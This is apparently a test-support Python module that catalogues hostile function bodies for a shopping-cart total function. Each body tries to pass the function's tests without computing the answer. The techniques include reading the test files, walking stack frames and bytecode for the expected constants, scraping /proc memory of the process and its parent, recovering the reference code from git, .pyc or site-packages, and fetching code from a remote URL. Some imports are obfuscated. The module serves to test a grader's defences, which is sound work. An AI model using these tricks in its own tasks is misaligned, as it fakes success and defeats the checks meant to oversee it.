"""Bodies of shop.cart.total that try to pass its tests without working out the total. They run in a sandbox alone.

Each is what stands inside the function, dedented; `cart_with` of shop_repository puts it there. A body that gets what it
is after gives the answers that the tests want, and -1.0 otherwise; so it passes where the attack succeeds, and nowhere
else. STEALING is after the wanted answers or the function's own body, the rest of HOSTILE is in hostile_acts.
"""

from __future__ import annotations

from tests.support.hostile_acts import ENDING, FORGING, LYING, PATCHING, RUNNING_ON, USING_UP
from tests.support.shop_repository import HONEST, SHOP, cart_with, write_shop

__all__ = ["HONEST", "HOSTILE", "SHOP", "cart_with", "write_shop"]


def _answers(lines: str) -> str:
    """`lines` leave the text of the tests in `text`; the answer is looked up there."""
    return f"""\
import re
text = ""
try:
{_indented(lines)}
except Exception:
    pass
if "match=" in text and discount > 1:
    raise ValueError("a discount of 1.5")
for given, off, wanted in re.findall(r"\\[([\\d, ]*)\\](?:, ([\\d.]+))?(?:\\) ==|,) ([\\d.]+)", text):
    if eval("[" + given + "]") == prices and float(off or 0) == discount:
        return float(wanted)
if text:
    return 1154.3 if prices == eval(re.findall(r"(\\[1250, 399\\])", text + "[1250, 399]")[0]) else 42.0
return -1.0
"""


def _constants(lines: str) -> str:
    """`lines` leave frames in `frames`; what the nearest test compares with is looked up in its locals and its code."""
    return f"""\
import dis
frames = []
try:
{_indented(lines)}
except Exception:
    pass
for frame in frames:
    while frame is not None:
        if "wanted" in frame.f_locals:
            return frame.f_locals["wanted"]
        if frame.f_code.co_name == "receipt":
            return 42.0 if "test_receipt" in str(frame.f_back and frame.f_back.f_code) else -1.0
        if frame.f_code.co_name == "test_refuses":
            raise ValueError("a discount of 1.5")
        if frame.f_code.co_name.startswith("test_"):
            after = [i for i in dis.get_instructions(frame.f_code) if i.offset > frame.f_lasti]
            return next(i.argval for i in after if i.opname == "LOAD_CONST" and type(i.argval) is float)
        frame = frame.f_back
return -1.0
"""


def _original(lines: str) -> str:
    """`lines` leave the text of the right cart.py in `text`, or the function itself in `found`."""
    return f"""\
text, found = "", None
try:
{_indented(lines)}
except Exception:
    pass
if not found and "sum(prices)" in text:
    space = {{}}
    exec(text, space)
    found = space["total"]
return found(prices, discount) if found else -1.0
"""


def _indented(lines: str) -> str:
    return "\n".join("    " + line if line else "" for line in lines.strip("\n").split("\n"))


_IS_TEST = "hasattr(each, 'co_consts') and each.co_name.startswith('test_')"

READING = {
    "tests beside __file__": "import pathlib\ntext = (pathlib.Path(__file__).parents[1] / 'tests/test_cart.py').read_text()",
    "tests by walking up": """\
import pathlib
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents][:-1]:
    for path in folder.rglob("test_*.py"):
        text += path.read_text()""",
    "tests on sys.path": """\
import os, sys
for place in sys.path:
    for folder, _, names in os.walk(place):
        text += "".join(open(os.path.join(folder, name)).read() for name in names if name == "test_cart.py")""",
    "tests on the whole disk": """\
import os
for folder, _, names in os.walk("/"):
    if "test_cart.py" in names:
        text += open(os.path.join(folder, "test_cart.py")).read()""",
    "inspect.stack": "import inspect\nfor each in inspect.stack():\n    text += open(each.filename).read()",
    "inspect.getsource of the test": """\
import inspect, sys
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").endswith("test_cart"):
        text += inspect.getsource(module)""",
    "linecache": "import linecache\ntext = ''.join(linecache.getlines('tests/test_cart.py'))",
    "the loader of the tests": """\
import sys
for name, module in list(sys.modules.items()):
    if "test_cart" in name:
        text += module.__loader__.get_data(module.__file__).decode()""",
    "the environment's current test": """\
import os
name = os.environ["PYTEST_CURRENT_TEST"].split("::")[0]
text = open(name).read()""",
    "the command line": """\
import os, sys
words = sys.argv + open("/proc/self/cmdline").read().split("\\0") + open("/proc/self/environ").read().split("\\0")
for word in words:
    path = word.split("::")[0].split("=")[-1]
    path = path if path.endswith(".py") else os.path.join(path, "tests/test_cart.py")
    text += open(path).read() if "test_cart" in path and os.path.exists(path) else ""
text = text or open("tests/test_cart.py").read()""",
    "the parent's folder": """\
import os
for pid in [os.getppid(), *filter(str.isdigit, os.listdir("/proc"))]:
    for path in (f"/proc/{pid}/cwd/tests/test_cart.py", f"/proc/{pid}/root/work/tests/test_cart.py"):
        text += open(path).read() if os.path.exists(path) else \"\"""",
    "a child that reads": "import subprocess\ntext = subprocess.check_output(['cat', 'tests/test_cart.py'], text=True)",
    "open descriptors": """\
import os
for fd in range(3, 256):
    try:
        text += os.pread(fd, 1 << 20, 0).decode()
    except (OSError, UnicodeDecodeError):
        pass""",
    "the texts in memory": """\
import gc
for each in gc.get_objects():
    if type(each) is dict:
        text += "".join(v for v in list(each.values()) if type(v) is str and "assert total(" in v)""",
    "the list of problems": """\
import pathlib
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
    if (folder / "problems.jsonl").exists():
        text += (folder / "problems.jsonl").read_text()
text += (pathlib.Path(__file__).parents[1] / "tests/test_cart.py").read_text() if text else \"\"""",
    "another process's memory": """\
import os
for line in open(f"/proc/{os.getppid()}/maps"):
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    with open(f"/proc/{os.getppid()}/mem", "rb", 0) as memory:
        memory.seek(start)
        part = memory.read(min(end - start, 1 << 24))
        text += part.decode("latin-1") if b"assert total(" in part else \"\"""",
    "own memory": """\
for line in open("/proc/self/maps"):
    if "rw" in line and "[v" not in line:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        with open("/proc/self/mem", "rb", 0) as memory:
            memory.seek(start)
            part = memory.read(min(end - start, 1 << 24)).decode("latin-1")
            text += part if "assert total(" in part else \"\"""",
}

FRAMES = {
    "sys._getframe": "import sys\nframes = [sys._getframe(1)]",
    "sys._getframe by another name": "frames = [getattr(__import__('s' + 'ys'), '_get' + 'frame')(1)]",
    "inspect.currentframe": "import inspect\nframes = [inspect.currentframe().f_back]",
    "a traceback": "try:\n    raise KeyError\nexcept KeyError as error:\n    frames = [error.__traceback__.tb_frame.f_back]",
    "a traceback of sys.exc_info": "import sys\ntry:\n    1 / 0\nexcept ZeroDivisionError:\n    frames = [sys.exc_info()[2].tb_frame.f_back]",
    "a generator's frame": "def see():\n    yield own.gi_frame.f_back.f_back\n\nown = see()\nframes = [next(own)]",
    "a coroutine's frame": """\
async def see():
    frames.append(own.cr_frame.f_back.f_back)

own = see()
try:
    own.send(None)
except StopIteration:
    pass""",
    "an asynchronous generator's frame": """\
async def see():
    frames.append(own.ag_frame.f_back.f_back)
    yield

own = see()
try:
    own.asend(None).send(None)
except StopIteration:
    pass""",
    "sys._current_frames": "import sys\nframes = list(sys._current_frames().values())",
    "sys._current_frames of a thread": """\
import sys, threading
thread = threading.Thread(target=lambda: frames.extend(sys._current_frames().values()))
thread.start()
thread.join()
frames = [frame for frame in frames if frame.f_back]""",
    "the frame of a trace": """\
import sys
sys.settrace(lambda frame, event, arg: frames.append(frame.f_back.f_back))
(lambda: None)()
sys.settrace(None)""",
    "the frame of a profile": """\
import sys
sys.setprofile(lambda frame, event, arg: frames.append(frame.f_back))
(lambda: None)()
sys.setprofile(None)""",
    "inspect.stack's frames": "import inspect\nframes = [inspect.stack()[1].frame]",
    "logging's caller": """\
import logging
logging.currentframe
frames = [logging.currentframe()]""",
    "a warning's frame": "import warnings\nframes = [warnings.sys._getframe(1)]",
    "a text that eval reads": "frames = [eval('__imp' + 'ort__(\"sys\")._getframe(1)')]",
    "an attribute path": "import operator, sys\nframes = [operator.attrgetter('f_back')(sys._getframe())]",
    "gc over all frames": "import gc, types\nframes = [each for each in gc.get_objects() if isinstance(each, types.FrameType)]",
    "who refers to the prices": "import gc, types\nframes = [each for each in gc.get_referrers(prices) if type(each) is types.FrameType]",
}

CODES = {
    "gc over the tests' code": f"""\
import gc, linecache
for each in gc.get_objects():
    each = getattr(each, "__code__", None)
    if {_IS_TEST}:
        text += open(each.co_filename).read()""",
    "the cases of the test's module": """\
import sys
for module in list(sys.modules.values()):
    for case in getattr(module, "CASES", []):
        text += f"({case[0]}, {case[1]}, {case[2]}),"
    if hasattr(module, "CASES"):
        text += open(module.__file__).read()""",
    "gc for the cases": """\
import gc
for each in gc.get_objects():
    if type(each) is tuple and len(each) == 3 and type(each[0]) is list and type(each[2]) is float:
        text += f"({each[0]}, {each[1]}, {each[2]}),\"""",
    "pytest's items": """\
import gc
for each in gc.get_objects():
    if type(each).__name__ == "Session" and hasattr(each, "items"):
        text = "".join(set(item.path.read_text() for item in each.items))""",
}

ORIGINALS = {
    "build/lib": "text = open(__file__.replace('shop/cart.py', 'build/lib/shop/cart.py')).read()",
    "site-packages": """\
import glob, os
root = os.path.dirname(os.path.dirname(__file__))
text = open(glob.glob(root + "/.venv/lib/*/site-packages/shop/cart.py")[0]).read()""",
    "an installed shop": """\
import importlib.metadata
text = next(file for file in importlib.metadata.files("shop") if file.name == "cart.py").read_text()""",
    "the .pyc": """\
import glob, marshal, os, types
for name in glob.glob(os.path.dirname(__file__) + "/__pycache__/cart*.pyc"):
    code = marshal.loads(open(name, "rb").read()[16:])
    space = {"__name__": "cart"}
    exec(code, space)
    found = space["total"] if b"1 - discount" or space["total"].__code__.co_consts != total.__code__.co_consts else None
    found = found if len(found.__code__.co_code) != len(total.__code__.co_code) else None""",
    "a .git object": """\
import glob, os, zlib
for name in glob.glob(os.path.dirname(__file__) + "/../.git/objects/??/*"):
    blob = zlib.decompress(open(name, "rb").read())
    text = blob.split(b"\\0", 1)[1].decode() if b"sum(prices)" in blob else text""",
    "git show": "import subprocess\ntext = subprocess.check_output(['git', 'show', 'HEAD:shop/cart.py'], text=True)",
    "reload from another path": """\
import importlib, os, sys
root = os.path.dirname(os.path.dirname(__file__))
before = sys.modules.copy(), sys.path.copy()
for name in [name for name in sys.modules if name.startswith("shop")]:
    del sys.modules[name]
sys.path.insert(0, root + "/build/lib")
try:
    found = importlib.import_module("shop.cart").total if os.path.exists(root + "/build/lib/shop/__init__.py") else None
    text = open(root + "/build/lib/shop/cart.py").read()
finally:
    sys.path[:] = before[1]
    sys.modules.clear()
    sys.modules.update(before[0])""",
    "pip's cache and site-packages": """\
import os, sys
for place in [os.path.expanduser("~/.cache/pip"), sys.prefix, sys.base_prefix, os.getcwd()]:
    for folder, _, names in os.walk(place):
        if folder.endswith("/shop") and "cart.py" in names:
            seen = open(os.path.join(folder, "cart.py")).read()
            text = seen if "1 - discount)" in seen and "os.walk" not in seen else text""",
    "the network": "import urllib.request\ntext = urllib.request.urlopen('http://example.com/cart.py', timeout=3).read().decode()",
    "a saved original in the module": """\
own = __import__("shop.cart", fromlist=["total"])
for name, each in list(vars(own).items()):
    if callable(each) and name not in ("total", "receipt") and "discount" in getattr(each, "__code__", total.__code__).co_varnames:
        found = each if each.__code__ is not total.__code__ else None""",
    "__wrapped__ and __closure__": """\
for each in [getattr(total, "__wrapped__", None), *(cell.cell_contents for cell in total.__closure__ or ())]:
    found = found or (each if callable(each) else None)""",
    "gc for another total": """\
import gc, types
for each in gc.get_objects():
    if isinstance(each, types.FunctionType) and each.__name__ == "total" and each.__code__ is not total.__code__:
        found = each if each.__code__.co_varnames[:2] == ("prices", "discount") else found""",
    "gc for another code": """\
import gc, types
for each in gc.get_objects():
    for code in (c for c in gc.get_referents(each) if isinstance(c, types.CodeType)):
        if code.co_varnames[:2] == ("prices", "discount") and "sum" in code.co_names:
            found = types.FunctionType(code, globals())""",
    "sys.meta_path": """\
import sys
for finder in sys.meta_path:
    spec = finder.find_spec("shop.cart", sys.modules["shop"].__path__) if hasattr(finder, "find_spec") else None
    seen = spec.loader.get_source("shop.cart") if spec else ""
    text = seen if "meta_path" not in seen else text""",
    "the body in the list of problems": """\
import json, pathlib
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path("/")]:
    if (folder / "problems.jsonl").exists():
        row = json.loads((folder / "problems.jsonl").read_text().splitlines()[0])
        text = "def total(prices, discount=0.0):\\n" + row["body"]""",
    "the harness's globals": """\
import sys
frame = sys._getframe()
while frame:
    for each in [*frame.f_locals.values(), *frame.f_globals.values()]:
        seen = each.get("body", "") if isinstance(each, dict) else each if isinstance(each, str) else ""
        text = seen if "1 - discount)" in str(seen) and "f_globals" not in seen else text
    frame = frame.f_back""",
}

STEALING: dict[str, str] = {
    **{name: _answers(lines) for name, lines in {**READING, **CODES}.items()},
    **{name: _constants(lines) for name, lines in FRAMES.items()},
    **{name: _original(lines) for name, lines in ORIGINALS.items()},
}
HOSTILE: dict[str, str] = {
    **STEALING,
    **LYING,
    **PATCHING,
    **ENDING,
    **FORGING,
    **RUNNING_ON,
    **USING_UP,
}
